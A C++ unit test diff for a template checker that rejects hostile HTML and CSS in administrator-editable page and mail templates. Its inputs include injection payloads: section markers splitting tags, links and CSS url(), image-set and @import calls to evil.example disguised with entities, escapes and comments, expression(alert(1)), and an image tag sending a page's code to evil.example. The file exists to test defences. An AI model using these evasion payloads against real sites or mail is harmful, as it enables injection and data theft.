@@ -110,6 +110,63 @@ TEST_F(OwnTemplates, AnAdministratorCannotPutScriptOrAnUnescapedMarkerIntoAPage)
     }
 }
 
+TEST_F(OwnTemplates, SectionsOfNoTextHideNothingFromTheCheck)
+{
+    for (auto const* attack : {
+             // Opened in a tag, closed outside: what is between them is seen as something else.
+             "<p{{#brand_logo}}>{{/brand_logo}} title=\"x\">x</p>",
+             "<p title=\"{{#brand_logo}}\">{{/brand_logo}}\">x</p>",
+             "<p {{#brand_logo}}title=\"{{/brand_logo}}x\">x</p>",
+             "{{#brand_logo}}<p {{/brand_logo}}>x</p>",
+             "<p title=\"{{#brand_logo}}\" class=\"{{/brand_logo}}\">x</p>",
+             // Joined to another word than was read.
+             "<s{{#brand_logo}}{{/brand_logo}}title=\"x\">x</s>",
+             "<p title=\"x\"class=\"x\">x</p>",
+             // An address of another site.
+             "<a href=\"/{{#brand_logo}}{{/brand_logo}}/evil.example\">x</a>",
+             "<a href=\"{{#brand_logo}}https://evil.example{{/brand_logo}}\">x</a>",
+             "<svg><path fill=\"url(https://evil.example/x)\"/></svg>",
+         })
+        EXPECT_FALSE(use("partials/brand.html", attack)) << attack;
+    EXPECT_TRUE(use("partials/brand.html",
+                    "<p{{#brand_logo}} class=\"brand\"{{/brand_logo}} "
+                    "title=\"x{{#brand_logo}} y{{/brand_logo}}\"><a href=\"{{home}}\">{{brand_name}}</a></p>"));
+}
+
+TEST_F(OwnTemplates, WhatPeopleTypedIsNeitherAnAddressNorAStyle)
+{
+    for (auto const* marker : {"brand_name", "application", "lang", "title"})
+        EXPECT_FALSE(use("partials/brand.html", fmt::format("<a href=\"{{{{{}}}}}\">x</a>", marker))) << marker;
+    auto const mail = [](std::string const& markup) {
+        return use("mail/message.html", changed("mail/message.html", "{{footer}}", markup));
+    };
+    EXPECT_FALSE(mail("<a href=\"{{intro}}\">x</a>"));
+    EXPECT_FALSE(mail("<p style=\"color:{{heading}}\">x</p>"));
+    EXPECT_FALSE(mail("<p style=\"background:{{sender_name}}\">x</p>"));
+    EXPECT_TRUE(mail("<p style=\"color:{{soft}}\">{{footer}}</p>"));
+}
+
+TEST_F(OwnTemplates, AStyleFetchesNothingHoweverItIsWritten)
+{
+    auto const mail = [](std::string_view from, std::string const& to) {
+        return use("mail/message.html", changed("mail/message.html", from, to));
+    };
+    for (auto const* style : {
+             "background:url(https://evil.example)",
+             "background:ur{{#code}}{{/code}}l(https://evil.example)",
+             "background:u&#114;l(https://evil.example)",
+             "background:u&#x72;l(https://evil.example)",
+             "background:u\\72l(https://evil.example)",
+             "background:image-set('https://evil.example' 1x)",
+             "background:u/**/rl(https://evil.example)",
+             "width:expr{{#code}}{{/code}}ession(alert(1))",
+         }) {
+        EXPECT_FALSE(mail("{{footer}}", fmt::format("<p style=\"{}\">x</p>", style))) << style;
+        EXPECT_FALSE(mail(".dark-logo{display:none}", fmt::format(".x{{{}}}", style))) << style;
+    }
+    EXPECT_FALSE(mail(".dark-logo{display:none}", "@imp{{#code}}{{/code}}ort 'https://evil.example';"));
+}
+
 TEST_F(OwnTemplates, NothingThatAPageKnowsLeavesByAnAddress)
 {
     for (auto const* attack : {
@@ -120,9 +177,8 @@ TEST_F(OwnTemplates, NothingThatAPageKnowsLeavesByAnAddress)
              "<a href=\"https://evil.example/?{{brand_name}}\">x</a>",
          })
         EXPECT_FALSE(use("partials/brand.html", attack)) << attack;
-    EXPECT_FALSE(use("mail/message.html",
-                     changed("mail/message.html", "{{footer}}",
-                             "<img src=\"https://evil.example/{{code}}\" alt=\"\">")));
+    EXPECT_FALSE(use("mail/message.html", changed("mail/message.html", "{{footer}}",
+                                                  "<img src=\"https://evil.example/{{code}}\" alt=\"\">")));
 }
 
 TEST_F(OwnTemplates, TheTokenFieldsAndButtonsOfAPageCannotBeTakenAway)
